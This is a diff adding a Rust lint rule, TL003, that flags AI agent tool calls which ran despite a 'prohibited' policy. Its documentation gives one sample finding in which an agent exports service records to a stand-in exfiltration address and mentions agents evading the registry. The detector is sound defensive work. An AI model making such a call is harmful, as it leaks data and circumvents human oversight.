@@ -1,0 +1,81 @@
+//! TL003 prohibited-tool-executed: a tool whose effective policy is `prohibited` executed.
+
+use super::context::short_list;
+use super::{Context, Coverage, Finding, Rule, RuleDocs, RuleOutcome, Severity};
+use crate::policy::{PolicyClass, PolicySource};
+
+pub struct ProhibitedToolExecuted;
+
+static DOCS: RuleDocs = RuleDocs {
+    what: "A tool whose effective policy is prohibited executed. The effective policy is the \
+           policy file's entry; without one, the class the tool's MCP annotations imply with the \
+           spec's pessimistic defaults (destructive, or listed without annotations -> prohibited).",
+    why: "The host registry says this tool must never run from this agent (bulk exports, deletes, \
+          payments). If it ran, either the registry is not enforced or the agent found a way \
+          around it; either way a human should look now.",
+    example: "execute_tool export_service_records (policy prohibited, tags [exfiltration]) in \
+              conversation conv-9, arguments {\"recipient\":\"records-backup@exfil.example\"}.",
+    fix: "Enforce the registry in the host before dispatching a tool call (refuse prohibited \
+          tools, do not list them to the model), or correct the policy file if the tool is in \
+          fact allowed.",
+};
+
+impl Rule for ProhibitedToolExecuted {
+    fn code(&self) -> &'static str {
+        "TL003"
+    }
+    fn name(&self) -> &'static str {
+        "prohibited-tool-executed"
+    }
+    fn severity(&self) -> Severity {
+        Severity::Critical
+    }
+    fn docs(&self) -> &'static RuleDocs {
+        &DOCS
+    }
+
+    fn check(&self, ctx: &Context) -> RuleOutcome {
+        let model = ctx.model;
+        let calls: Vec<_> = ctx.tool_calls().collect();
+        let mut cov = Coverage::new(calls.len());
+        let mut findings = Vec::new();
+        let mut unknown: Vec<&str> = Vec::new();
+        let mut unknown_calls = 0;
+        for call in &calls {
+            let tool = call.tool.as_deref().unwrap_or("?");
+            let Some(eff) = ctx.effective_policy(tool) else {
+                unknown_calls += 1;
+                if !unknown.contains(&tool) {
+                    unknown.push(tool);
+                }
+                continue;
+            };
+            if eff.class != PolicyClass::Prohibited || call.input_required {
+                continue;
+            }
+            let source = match eff.source {
+                PolicySource::Registry => "the policy file",
+                PolicySource::Annotations => "its MCP annotations (destructive)",
+                PolicySource::Defaults => "MCP defaults (listed without annotations)",
+            };
+            findings.push(
+                Finding::at(
+                    self,
+                    model,
+                    call.anchor,
+                    format!("{tool} is prohibited (per {source}) but executed"),
+                )
+                .with_tool(call.tool.as_deref())
+                .with_related(model, call.members.iter().copied()),
+            );
+        }
+        cov.not_observable(
+            unknown_calls,
+            format!(
+                "no policy entry and no MCP annotations for {} ({unknown_calls} calls): effective policy unknown",
+                short_list(unknown.iter().copied())
+            ),
+        );
+        RuleOutcome::new(findings, cov)
+    }
+}
